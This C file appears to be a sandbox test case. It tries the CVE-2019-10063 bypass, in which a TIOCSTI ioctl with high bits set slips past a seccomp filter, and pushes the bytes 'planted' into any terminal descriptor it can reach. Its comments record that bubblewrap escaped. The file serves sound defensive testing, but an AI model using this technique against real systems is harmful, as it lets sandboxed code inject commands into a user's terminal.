// SPDX-License-Identifier: Apache-2.0
// attack: the same, with high bits set in the request, which a filter that compares 64 bits lets pass (CVE-2019-10063)
// topic: terminal
// stops: session of its own, no terminal among its descriptors; system call filter that compares 32 bits
// reprove: held
// bwrap: escaped
#include "attack.h"

int main(void) {
    int pushed = 0;
    open("/dev/tty", O_RDWR);
    for (int file = 0; file < 64; file++) {
        for (const char *at = "planted\n"; *at; at++) {
            pushed += syscall(SYS_ioctl, (long)file, (long)TIOCSTI | (long)0x7f00000000000000, at) == 0;
            pushed += syscall(SYS_ioctl, (long)file, (long)TIOCSTI | (long)0x100000000, at) == 0;
        }
    }
    if (pushed) escaped("%d bytes were pushed into a terminal", pushed);
    held("no descriptor takes input");
}
